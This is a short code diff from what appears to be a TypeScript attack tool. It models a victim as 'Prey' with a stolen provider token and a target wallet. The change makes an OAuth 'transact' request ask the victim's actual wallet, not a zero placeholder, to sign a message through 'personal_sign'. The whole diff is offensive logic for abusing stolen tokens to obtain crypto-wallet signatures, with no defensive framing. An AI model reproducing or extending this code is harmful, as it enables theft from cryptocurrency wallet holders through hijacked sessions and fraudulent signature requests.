@@ -11,6 +11,8 @@ export interface Prey {
   readonly listedOrigin: string;
   /** A provider token that was stolen from there, or a made-up one. */
   readonly token: string;
+  /** The address of the wallet that it is after. */
+  readonly wallet: string;
   /** base64 of a compressed key of secp256k1, whose other half the page knows. */
   readonly publicKey: string;
 }
@@ -49,7 +51,7 @@ export function transactAddress(
 ): string {
   const url = new URL('/oauth/transact', prey.serviceUrl);
   url.searchParams.set('token', prey.token);
-  const request = { method: 'personal_sign', params: [message, `0x${'0'.repeat(40)}`] };
+  const request = { method: 'personal_sign', params: [message, prey.wallet] };
   url.searchParams.set(
     'request',
     JSON.stringify({ content: { request: { request } }, timestamp, callbackUrl }),
